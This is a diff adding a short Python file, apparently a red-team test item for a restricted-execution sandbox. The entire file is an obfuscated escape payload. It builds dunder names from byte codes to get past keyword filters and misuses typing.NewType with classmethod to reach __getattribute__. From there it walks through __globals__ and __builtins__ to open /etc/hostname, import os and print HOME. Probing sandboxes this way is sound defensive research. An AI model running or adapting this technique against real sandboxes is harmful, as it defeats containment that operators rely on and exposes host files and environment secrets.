@@ -1,0 +1,28 @@
+# family: red team, round 37 (field_makers.made_name: NewType(**spec) with spec a dict built earlier)
+import copy
+import typing
+
+
+def spelled(codes):
+    return bytes(codes).decode()
+
+
+def dunder(word):
+    return spelled([95, 95]) + word + spelled([95, 95])
+
+
+class Box:
+    lookup = classmethod(typing.NewType(**dict(name=dunder("getattribute"), tp=int)))
+
+
+def main():
+    fetch = copy.copy(Box.lookup)
+    namespace = fetch(main, dunder("globals"))
+    print(namespace["copy"])
+    builtins = namespace[dunder("builtins")]
+    print(fetch(builtins, "open")("/etc/hostname").read())
+    system = fetch(builtins, dunder("import"))("os")
+    print(system.getcwd(), system.environ["HOME"])
+
+
+main()
